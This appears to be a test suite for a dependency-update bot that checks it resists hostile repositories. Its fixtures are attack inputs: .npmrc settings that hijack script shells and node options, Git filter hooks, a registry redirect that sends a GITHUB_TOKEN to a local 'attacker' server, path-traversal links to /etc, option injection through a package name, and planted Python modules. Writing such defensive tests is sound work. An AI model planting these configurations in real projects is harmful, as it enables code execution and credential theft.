// Repositories and packages that try to run code in a job of the bot, or to get its secrets.
import { execFile } from 'node:child_process';
import { access, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, test } from 'vitest';
import { hasProgram, updateJob } from './job.ts';
import { npmRegistry } from './npm-registry.ts';

const execute = promisify(execFile);
const needed = await hasProgram('npm');
const hasPython = await hasProgram('python3', ['-I', '-c', 'from pip._vendor import requests']);

/** A server of the attacker, which notes all that it is sent. */
async function attacker() {
  const received: string[] = [];
  const server = createServer((request, response) => {
    received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    response.writeHead(404).end('{}');
  });
  server.on('connect', (request, socket) => {
    received.push(`CONNECT ${request.url} ${JSON.stringify(request.headers)}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    received,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** A folder with a mark that scripts would leave, and the command that leaves it. */
async function mark() {
  const folder = await mkdtemp(join(tmpdir(), 'hearth-mark-'));
  const file = join(folder, 'was-run');
  return {
    folder,
    file,
    command: `touch ${file}`,
    isLeft: () =>
      access(file).then(
        () => true,
        () => false,
      ),
    [Symbol.asyncDispose]: () => rm(folder, { recursive: true, force: true }),
  };
}

const vulnerable = { name: 'left', patched: '1.2.0', vulnerable: ['< 1.2.0'] };
const lock = (url: string, more: object = {}) => ({
  name: 'app',
  lockfileVersion: 3,
  requires: true,
  packages: {
    '': { name: 'app', dependencies: { left: '^1.0.0' } },
    'node_modules/left': { version: '1.0.0', resolved: `${url}/left/-/left-1.0.0.tgz` },
    ...more,
  },
});

const manifest = { name: 'app', private: true, dependencies: { left: '^1.0.0' } };

test.skipIf(!needed)(
  'no script of a package or of the repository is run, and no program that a configuration names',
  async () => {
    await using left = await mark();
    const scripts = Object.fromEntries(
      ['preinstall', 'install', 'postinstall', 'prepare', 'prepublish', 'preprepare', 'dependencies', 'version'].map((name) => [
        name,
        left.command,
      ]),
    );
    const program = join(left.folder, 'program');
    await writeFile(program, `#!/bin/sh\n${left.command}\n`, { mode: 0o755 });
    await writeFile(join(left.folder, 'module.js'), `require('node:fs').writeFileSync(${JSON.stringify(left.file)}, '')`);
    const packages = [
      { name: 'left', version: '1.0.0', scripts },
      { name: 'left', version: '1.2.0', scripts, dependencies: { deep: '1.0.0' }, bundleDependencies: ['deep'] },
      { name: 'deep', version: '1.0.0', scripts },
    ];
    await using registry = await npmRegistry(packages);
    const files = {
      'package.json': JSON.stringify({
        ...manifest,
        scripts,
        packageManager: `npm@file://${program}`,
        devEngines: { packageManager: { name: 'other', onFail: 'error' } },
      }),
      'package-lock.json': JSON.stringify(lock(registry.url), null, 2),
      '.npmrc':
        `ignore-scripts=false\nscript-shell=${program}\nshell=${program}\nnode-options=--require ${left.folder}/module.js\n` +
        `git=${program}\neditor=${program}\nviewer=${program}\nnode-gyp=${program}\ninit-module=${left.folder}/module.js\n` +
        `foreground-scripts=true\nprefix=${left.folder}\ncache=${left.folder}\n`,
      '.gitattributes': '* filter=evil diff=evil merge=evil\n',
      'node_modules/npm/package.json': '{}',
      npm: `#!/bin/sh\n${left.command}\n`,
      git: `#!/bin/sh\n${left.command}\n`,
    };
    await using job = await updateJob(files, { npm_config_registry: registry.url });
    // The machine's configuration has such a filter, as Git LFS sets them up.
    await writeFile(
      join(job.folder, '.gitconfig'),
      `[filter "evil"]\n\tclean = ${program}\n\tsmudge = ${program}\n` +
        `[diff "evil"]\n\ttextconv = ${program}\n\tcommand = ${program}\n`,
    );

    const { results, skipped } = await job.run({ security: [vulnerable] });

    expect(skipped).toEqual([]);
    expect(results).toMatchObject([{ dependencies: [{ name: 'left', to: '1.2.0' }] }]);
    expect(await left.isLeft()).toBe(false);
    // The package was looked into, since it brings others along.
    expect(registry.requests.map(({ path }) => path)).toContain('/left/-/left-1.2.0.tgz');
    // The mark would be left: the same repository, as a person installs it.
    await execute('npm', ['install', '--ignore-scripts=false', '--force', `--registry=${registry.url}`], {
      cwd: job.repository,
      env: { PATH: process.env.PATH, HOME: job.folder },
    }).catch(() => undefined);
    expect(await left.isLeft()).toBe(true);
  },
);

test.skipIf(!needed)('the secret of a registry goes there alone, whatever the repository says', async () => {
  await using evil = await attacker();
  await using registry = await npmRegistry([
    { name: 'left', version: '1.0.0' },
    { name: 'left', version: '1.2.0' },
  ]);
  const host = `127.0.0.1:${evil.port}`;
  const files = {
    'package.json': JSON.stringify(manifest),
    'package-lock.json': JSON.stringify(
      lock(registry.url, { 'node_modules/right': { version: '1.0.0', resolved: `http://${host}/right.tgz` } }),
    ),
    '.npmrc':
      `registry=http://${host}/\n@acme:registry=http://${host}/\n//${host}/:_authToken=\${GITHUB_TOKEN}\n` +
      `proxy=http://${host}/\nhttps-proxy=http://${host}/\nstrict-ssl=false\ncafile=/etc/hostname\n_auth=\${GITHUB_TOKEN}\n` +
      `userconfig=/nonexistent\nglobalconfig=/nonexistent\n`,
  };
  await using job = await updateJob(files, { NPM_CONFIG_USERCONFIG: '/nonexistent' });
  const configuration = join(job.folder, 'npmrc');
  const { port } = new URL(registry.url);
  await writeFile(configuration, `//127.0.0.1:${port}/:_authToken=the-secret\nregistry=${registry.url}/\n`);
  await using own = await updateJob(files, { NPM_CONFIG_USERCONFIG: configuration });

  // The organization's registry replaces the default one, so that the repository's isn't asked.
  const { results, log, output } = await own.run({ security: [vulnerable] });
  expect(results).toMatchObject([{ dependencies: [{ to: '1.2.0' }] }]);
  expect(evil.received).toEqual([]);
  expect(new Set(registry.requests.map(({ authorization }) => authorization))).toEqual(new Set(['Bearer the-secret']));
  expect(log + Buffer.from(output, 'base64').toString('latin1')).not.toContain('the-secret');

  // Without one, the repository's is asked, and gets no secret.
  const other = await job.run({ security: [vulnerable] });
  expect(other.results).toEqual([]);
  expect(evil.received.length).toBeGreaterThan(0);
  expect(evil.received.filter((line) => /^CONNECT|authorization|the-token|the-secret/.test(line))).toEqual([]);
});

test.skipIf(!needed)('a scope of the repository comes from the registry that its configuration names', async () => {
  await using scoped = await npmRegistry([
    { name: '@acme/left', version: '1.0.0' },
    { name: '@acme/left', version: '1.2.0' },
  ]);
  const text = JSON.stringify({ name: 'app', private: true, dependencies: { '@acme/left': '1.0.0' } });
  await using job = await updateJob(
    { 'web/package.json': text, 'web/.npmrc': `@acme:registry=${scoped.url}\n` },
    { npm_config_registry: 'http://127.0.0.1:1' },
  );

  const { results } = await job.run({ directory: '/web', security: [{ ...vulnerable, name: '@acme/left' }] });

  expect(results).toMatchObject([{ dependencies: [{ name: '@acme/left', to: '1.2.0' }] }]);
});

test.skipIf(!needed).each<[string, string, Record<string, string | { link: string }>]>([
  ['a manifest that is a link', 'has no package.json', { 'package.json': { link: '/etc/hostname' } }],
  ['a link to a folder', 'has no package.json', { 'package.json': JSON.stringify(manifest), web: { link: '/etc' } }],
  [
    'a folder outside of the repository',
    'outside of the repository',
    { 'web/package.json': JSON.stringify({ ...manifest, dependencies: { left: 'file:../../left' } }) },
  ],
  [
    'a folder of the machine',
    'outside of the repository',
    { 'web/package.json': JSON.stringify({ ...manifest, devDependencies: { left: '/etc' } }) },
  ],
  [
    'a link of a lock file',
    'outside of the repository',
    {
      'web/package.json': JSON.stringify(manifest),
      'web/package-lock.json': JSON.stringify(lock('http://127.0.0.1:1', { '../../etc': { version: '1.0.0' } })),
    },
  ],
  ['a manifest that is no JSON', 'can’t be read', { 'web/package.json': '{' }],
])('%s is refused', async (_what, reason, files) => {
  await using job = await updateJob(files, { npm_config_registry: 'http://127.0.0.1:1' });

  const { results, skipped } = await job.run({
    directory: 'web/package.json' in files || 'web' in files ? '/web' : '/',
    security: [vulnerable],
  });

  expect(results).toEqual([]);
  expect(skipped).toEqual([{ reason: expect.stringContaining(reason.replace('’', "'")) }]);
});

test.skipIf(!needed)('a package of Git is not fetched, and a name is never an option', async () => {
  await using left = await mark();
  await using registry = await npmRegistry([
    { name: 'left', version: '1.0.0' },
    { name: 'left', version: '1.2.0', dependencies: { evil: `git+file://${left.folder}` } },
  ]);
  await execute('git', ['-C', left.folder, 'init', '--quiet']);
  await writeFile(
    join(left.folder, 'package.json'),
    JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { prepare: left.command } }),
  );
  await execute('git', ['-C', left.folder, 'add', '--all']);
  await execute('git', ['-C', left.folder, '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '--quiet', '-m', 'x']);
  await using job = await updateJob(
    { 'package.json': JSON.stringify(manifest), 'package-lock.json': JSON.stringify(lock(registry.url)) },
    { npm_config_registry: registry.url },
  );

  const { results, skipped } = await job.run({
    security: [vulnerable, { ...vulnerable, name: '--ignore-scripts=false' }, { ...vulnerable, name: '../../etc' }],
  });

  expect(results).toEqual([]);
  expect(skipped).toEqual([
    { name: 'left', reason: expect.stringContaining("npm can't resolve the update") },
    { reason: 'It is not the name of a package' },
  ]);
  expect(await left.isLeft()).toBe(false);
});

test.skipIf(!hasPython)('modules beside the script, in the repository or of the user are not imported', async () => {
  await using left = await mark();
  const code = `open(${JSON.stringify(left.file)}, 'w')\n`;
  const modules = ['json.py', 'pip/__init__.py', 'sitecustomize.py', 'usercustomize.py', 'requests.py'];
  await using job = await updateJob(
    { 'requirements.txt': 'left==1.0\n', ...Object.fromEntries(modules.map((name) => [name, code])), 'setup.py': code },
    { PIP_INDEX_URL: 'http://127.0.0.1:1/simple', PIP_CONFIG_FILE: '/dev/null' },
  );
  for (const name of ['json.py', 'gzip.py', 'sitecustomize.py']) await writeFile(join(job.folder, name), code);

  const { skipped } = await job.run({ ecosystem: 'pip', security: [vulnerable] });

  expect(skipped).toEqual([{ name: 'left', reason: expect.stringContaining('An index can') }]);
  expect(await left.isLeft()).toBe(false);
});
